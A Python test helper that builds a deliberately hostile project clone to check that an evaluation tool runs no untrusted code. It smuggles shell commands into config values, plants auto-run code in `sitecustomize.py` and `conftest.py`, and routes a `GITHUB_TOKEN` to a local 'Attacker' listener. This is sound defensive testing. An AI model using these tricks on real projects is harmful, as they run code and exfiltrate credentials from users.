"""A stranger's project that tries everything, and a witness of what comes of it.

Every way to run something leaves a file in `outside/`, every key and question goes to a listener that counts, and an
audit hook of the interpreter notes the files opened for writing, the processes started and the connections made.
"""

from __future__ import annotations

import functools
import json
import os
import shutil
import socket
import sys
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from tui_evals.datasets.document import load
from tui_evals.runs.executors.cluster.terms import ClusterTerms
from tui_evals.runs.project import load_project
from tui_evals.runs.start import RunRequest, prepare

KEY = "sk-canary-of-the-users-own-shell"


@dataclass
class Witness:
    """What was seen while it looked."""

    written: list[str] = field(default_factory=list)
    started: list[str] = field(default_factory=list)
    connected: list[str] = field(default_factory=list)

    @property
    def anything(self) -> list[str]:
        return [*self.written, *self.started, *self.connected]


_LOOKING: list[tuple[Witness, tuple[str, ...]]] = []
_WRITING = os.O_WRONLY | os.O_RDWR | os.O_CREAT | os.O_TRUNC | os.O_APPEND


def _audit(event: str, arguments: tuple[Any, ...]) -> None:
    if not _LOOKING:
        return
    witness, allowed = _LOOKING[-1]
    match event:
        case "open":
            path, mode, flags = arguments
            writing = bool(flags & _WRITING) if isinstance(flags, int) else bool(set(mode or "") & set("wax+"))
            if writing and isinstance(path, str | bytes | os.PathLike):
                place = os.path.realpath(os.fsdecode(path))
                if not place.startswith(allowed) and not place.startswith("/dev/"):
                    witness.written.append(f"wrote {place}")
        case "subprocess.Popen":
            witness.started.append(f"started {arguments[1]}")
        case "os.posix_spawn" | "os.exec" | "os.system" | "os.fork" | "pty.spawn":
            witness.started.append(f"{event} {arguments[:2]}")
        case "socket.connect":
            if arguments[0].family != socket.AF_UNIX:
                witness.connected.append(f"connected to {arguments[1]}")
        case "socket.getaddrinfo":
            witness.connected.append(f"looked up {arguments[0]}")


@functools.cache
def _look_about() -> None:
    """Have the interpreter call `_audit`, which nothing ends: it would slow every test of a process that needs none."""
    sys.addaudithook(_audit)


@contextmanager
def watched(*allowed: Path) -> Iterator[Witness]:
    """Note everything written outside some folders, every process and every connection."""
    _look_about()
    witness = Witness()
    _LOOKING.append((witness, tuple(os.path.realpath(place) for place in allowed)))
    try:
        yield witness
    finally:
        _LOOKING.pop()


@dataclass
class Attacker:
    """Where a clone wants keys and questions to go."""

    port: int
    heard: list[bytes] = field(default_factory=list)

    @property
    def address(self) -> str:
        return f"http://127.0.0.1:{self.port}/v1"


@contextmanager
def listening() -> Iterator[Attacker]:
    with socket.create_server(("127.0.0.1", 0)) as server:
        attacker = Attacker(server.getsockname()[1])

        def serve() -> None:
            while True:
                try:
                    connection, _ = server.accept()
                except OSError:
                    return
                with connection:
                    connection.settimeout(2)
                    attacker.heard.append(connection.recv(65536))
                    body = b'{"choices":[{"message":{"content":"hello"}}]}'
                    head = f"HTTP/1.1 200 OK\r\nContent-Length: {len(body)}\r\nContent-Type: application/json\r\n\r\n"
                    connection.sendall(head.encode() + body)

        thread = threading.Thread(target=serve, daemon=True)
        thread.start()
        yield attacker
        server.shutdown(socket.SHUT_RDWR)
    thread.join()


@dataclass
class Clone:
    """The project, and the folder in which whatever it manages to run leaves its mark."""

    root: Path
    outside: Path
    attacker: Attacker

    @property
    def marks(self) -> list[str]:
        return sorted(file.name for file in self.outside.iterdir())

    def write(self, name: str, text: str) -> Path:
        file = self.root / name
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_text(text, encoding="utf-8")
        return file

    def configure(self, text: str) -> None:
        self.write(".evals/config.toml", text)

    def marking(self, name: str) -> str:
        """Python that leaves a mark, and a shell command that does."""
        return f"open({str(self.outside / name)!r}, 'w').close()\n"


def hostile_clone(root: Path, outside: Path, attacker: Attacker) -> Clone:
    """A clone that uses every way at once."""
    clone = Clone(root, outside, attacker)
    outside.mkdir()
    root.mkdir()
    command = f"sh -c 'touch {outside / 'command'}; echo hi'"
    clone.configure(
        f"""
[run]
targets = ["shell", "function", "address", "key", "command:{command.replace('"', "")}"]
[judge]
target = "judge"
[targets.shell]
model = "command:{command}"
[targets.judge]
model = "command:sh -c 'touch {outside / "judge"}'"
[targets.function]
model = "python:helper:answer"
[targets.address]
model = "any"
base_url = "{attacker.address}"
[targets.key]
model = "openai/gpt-4o-mini"
base_url = "{attacker.address}"
api_key = "env:GITHUB_TOKEN"
"""
    )
    clone.write(".env.local", f"OPENAI_BASE_URL={attacker.address}\nANTHROPIC_API_BASE={attacker.address}\n")
    clone.write("helper.py", clone.marking("function-imported") + "def answer(prompt): return 'x'\n")
    clone.write("conftest.py", clone.marking("conftest"))
    clone.write("sitecustomize.py", clone.marking("sitecustomize"))
    clone.write(
        "custom-evaluators/Mine/Mine.py",
        clone.marking("evaluator") + "def score(response): return {'score': 1}\n",
    )
    items = [
        {"testId": "A", "prompt": "one", "response": "two", "expected_response": "two"},
        {"testId": "B", "prompt": "judge this", "response": "x", "evaluators": {"Mine": {}, "Relevance": {}}},
    ]
    data = {"schemaVersion": "1.0.0", "default_evaluators": {"Includes": {}, "Mine": {}}, "items": items}
    clone.write("data.json", json.dumps(data))
    clone.write("tags/tags.prompty", "---\nname: tags\n---\nsystem:\nSay tags.\nuser:\n{{text}}\n")
    clone.write("tags/tags/generation.json", json.dumps({"targets": {"rules": f"command:{command}"}, "options": {}}))
    return clone


def commit_run(clone: Clone) -> None:
    """The store in the clone holds a run that was begun elsewhere: going on with it does what its terms say."""
    project = load_project(clone.root, trusting=True)
    document = load(clone.root / "data.json")
    request = RunRequest(
        document=document,
        source="data.json",
        name="theirs",
        targets=(f"command:touch {clone.outside / 'stored'}",),
        cluster=ClusterTerms(word=f"tcp://127.0.0.1:{clone.attacker.port}", insecure=True),
    )
    with project.writer() as writer:
        prepare(request, project).store(writer)
    shutil.rmtree(Path(os.environ["HOME"]) / "tui_evals")  # what its author agreed to, nobody here has
